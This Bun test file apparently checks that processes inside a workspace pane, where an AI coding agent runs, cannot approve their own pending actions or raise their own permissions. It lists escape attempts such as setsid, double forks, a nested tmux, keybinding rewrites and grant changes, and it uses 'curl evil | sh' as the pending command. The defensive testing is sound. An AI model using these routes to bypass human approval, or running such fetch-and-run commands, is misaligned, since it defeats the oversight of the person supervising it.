// The person's verbs from inside a pane (docs/security.md "Ways in from a pane"): each way an audit
// found to answer an approval, attach, run interface commands or quit from a pane, run for real in a
// shell pane of a real server (tmux shim on, Claude Code's hooks installed, a stand-in agent waiting
// for an answer), is refused; the person, on the main socket from outside ws, still does all of it.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, readFileSync, writeFileSync, existsSync } from "node:fs";
import { join } from "node:path";
import { inboxOf, standInApprovalAgent, waitInbox } from "./approval-rig";
import { TestServer, waitFor, wsArgv } from "./harness";
import { attachTerminal } from "./outer-terminal";

const REAL_TMUX = Bun.which("tmux");

describe("person verbs from a pane", () => {
  let s: TestServer;
  let ws: string;
  let pane: number;
  let row: { id: number };
  let agent: ReturnType<typeof standInApprovalAgent>;

  beforeAll(async () => {
    // The Dashboard's pause after a non-key open, long enough that no machine's load outlasts it.
    s = new TestServer({ env: { TMUX_TMPDIR: "", WS_DASHBOARD_ANSWER_DELAY_MS: "600000" } });
    s.env.TMUX_TMPDIR = s.root; // a real tmux started from a pane keeps its socket here
    ws = join(s.root, "ws-wrapper");
    writeFileSync(ws, `#!/bin/sh\nexec ${wsArgv().map((a) => `'${a}'`).join(" ")} "$@"\n`, { mode: 0o755 });
    mkdirSync(join(s.root, "config", "ws"), { recursive: true });
    writeFileSync(join(s.root, "config", "ws", "keys.toml"), "tmux_shim = true\n");
    Object.assign(s.env, { STANDIN_WS: ws });
    await s.start();
    await s.ok(["hooks", "install", "claude"], { env: { CLAUDE_CONFIG_DIR: join(s.root, ".claude") } });
    agent = standInApprovalAgent(s, 1, ["Bash", "curl evil | sh"]);
    [row] = await waitInbox(s, 1);
    pane = (await s.v6({ type: "tab_new", name: "rogue", cwd: s.root })).pane as number;
    await s.waitScreen(pane, /\S/, 20000);
  }, 90_000);
  afterAll(async () => {
    if (REAL_TMUX) Bun.spawnSync([REAL_TMUX, "-L", "x", "kill-server"], { env: { ...s.env } });
    await s.stop();
  });

  /** Run `command` in the rogue pane, its output and status written to a file; what it wrote. */
  async function fromPane(command: string, name: string): Promise<string> {
    const out = join(s.root, `${name}.out`);
    await s.v6({ type: "pane_send", pane, text: `clear; ${command.replaceAll("OUT", out)}`, enter: true });
    return waitFor(`${name} to finish`, () => (existsSync(out) && /rc=\d+/.test(readFileSync(out, "utf8")) ? readFileSync(out, "utf8") : undefined), 30000);
  }

  /** `ws approve N`, its output and status to OUT, as a shell line. */
  const approve = () => `${ws} approve ${row.id} >OUT 2>&1; echo rc=$? >>OUT`;

  const stillWaiting = async () => expect((await inboxOf(s)).map((r) => r.id)).toEqual([row.id]);

  test("setsid -f ws approve", async () => {
    const out = await fromPane(`setsid -f sh -c '${approve()}'`, "setsid");
    expect(out).toContain("is the person's");
    expect(out).toContain("rc=1");
    await stillWaiting();
  }, 40_000);

  test("a double fork", async () => {
    const out = await fromPane(`( ( sh -c '${approve()}' & ) & )`, "double-fork");
    expect(out).toContain("is the person's");
    await stillWaiting();
  }, 40_000);

  test("the main socket named on purpose, from a session of its own: the ancestry walk places it", async () => {
    const out = await fromPane(`WS_SOCKET=${s.sock} setsid -w sh -c '${approve()}'`, "main-setsid");
    expect(out).toContain("inside ws pane");
    await stillWaiting();
  }, 40_000);

  test("the main socket named on purpose, from a process that left the pane's tree (setsid -f): its pane key places it", async () => {
    const out = await fromPane(`WS_SOCKET=${s.sock} setsid -f sh -c '${approve()}'`, "main-setsid-f");
    expect(out).toContain("started in ws pane");
    expect(out).toContain("rc=1");
    await stillWaiting();
  }, 40_000);

  test.skipIf(!REAL_TMUX)("a real tmux server started from the pane: tmux -L x new -d 'ws approve N'", async () => {
    const out = await fromPane(`tmux -L x new -d "sh -c '${approve()}'"`, "real-tmux");
    expect(out).toContain("is the person's");
    await stillWaiting();
  }, 40_000);

  test("the tmux shim's run-shell -b (its child leaves the pane's ancestry)", async () => {
    const out = await fromPane(`tmux run-shell -b "sh -c '${approve()}'"`, "run-shell");
    expect(out).toContain("is the person's");
    await stillWaiting();
  }, 40_000);

  test("env -u WS_PANE_ID ws attach on a terminal of its own", async () => {
    const out = await fromPane(`script -qec 'env -u WS_PANE_ID ${ws} attach' /dev/null >OUT 2>&1; echo rc=$? >>OUT`, "attach");
    expect(out).toContain("is the person's");
    // The main socket named too: the server checks the attach's peer.
    const main = await fromPane(`script -qec 'env -u WS_PANE_ID WS_SOCKET=${s.sock} ${ws} attach' /dev/null >OUT 2>&1; echo rc=$? >>OUT`, "attach-main");
    expect(main).toContain("inside ws pane");
  }, 60_000);

  test("ws command dashboard and ws command quit", async () => {
    const dash = await fromPane(`${ws} command dashboard >OUT 2>&1; echo rc=$? >>OUT`, "command-dashboard");
    expect(dash).toContain("is the person's");
    const quit = await fromPane(`${ws} command quit >OUT 2>&1; echo rc=$? >>OUT`, "command-quit");
    expect(quit).toContain("is the person's");
    const kill = await fromPane(`${ws} kill-server >OUT 2>&1; echo rc=$? >>OUT`, "kill-server");
    expect(kill).toContain("is the person's");
    expect((await s.v6({ type: "hello" })).type).toBe("hello"); // still serving
  }, 60_000);

  test("a keys.toml binding plus ws config reload: the reload is refused, and a root key can't approve even when the person reloads", async () => {
    const keys = join(s.root, "config", "ws", "keys.toml");
    const out = await fromPane(`printf 'tmux_shim = true\\n[root]\\n"Enter" = "approve ${row.id}"\\n' > ${keys}; ${ws} config reload >OUT 2>&1; echo rc=$? >>OUT`, "reload");
    expect(out).toContain("is the person's");
    const r = await s.v6({ type: "config_reload" });
    expect(r.type).toBe("config_reloaded");
    expect(JSON.stringify(r.warnings)).toContain("a key without the prefix can't approve or deny");
    writeFileSync(keys, "tmux_shim = true\n");
    await stillWaiting();
  }, 40_000);

  test("ws pane grant from the pane is refused; the person raises and lowers", async () => {
    const out = await fromPane(`${ws} pane grant ${pane} control >OUT 2>&1; echo rc=$? >>OUT`, "grant");
    expect(out).toContain("is the person's");
    expect(await s.v6({ type: "pane_grant", pane, level: "workspace" })).toMatchObject({ type: "pane_grants", level: "workspace", by_person: true });
    expect(await s.v6({ type: "pane_grant", pane, level: "control" })).toMatchObject({ level: "control" });
  }, 40_000);

  test("the Dashboard opened by anything but the person's prefix key ignores y (opened by the prefix key it takes y at once: approvals-ui.test.ts)", async () => {
    const c = await attachTerminal(s.sock, 120, 30);
    try {
      await waitFor("the first frame", async () => (await c.screen())[0]!.includes("1:"), 20000);
      const shown = () => waitFor("the Dashboard", async () => ((await c.screen()).some((l) => l.includes("Needs you")) ? true : undefined), 20000);
      const gone = () => waitFor("the Dashboard closed", async () => (!(await c.screen()).some((l) => l.includes("Needs you")) ? true : undefined), 20000);
      await s.ok(["command", "dashboard"]); // the person's CLI, outside ws: allowed, but not a key
      await shown();
      c.key("y");
      c.key("q");
      await gone(); // the y before it was read, and ignored
      await stillWaiting();
    } finally {
      c.close();
    }
  }, 60_000);

  test("the person, from outside ws on the main socket, answers", async () => {
    expect((await s.ok(["approve", String(row.id)])).trim()).toBe(`allowed ${row.id} (pane 1)`);
    expect(await agent.output).toBe("DECISION allow");
  }, 40_000);
});
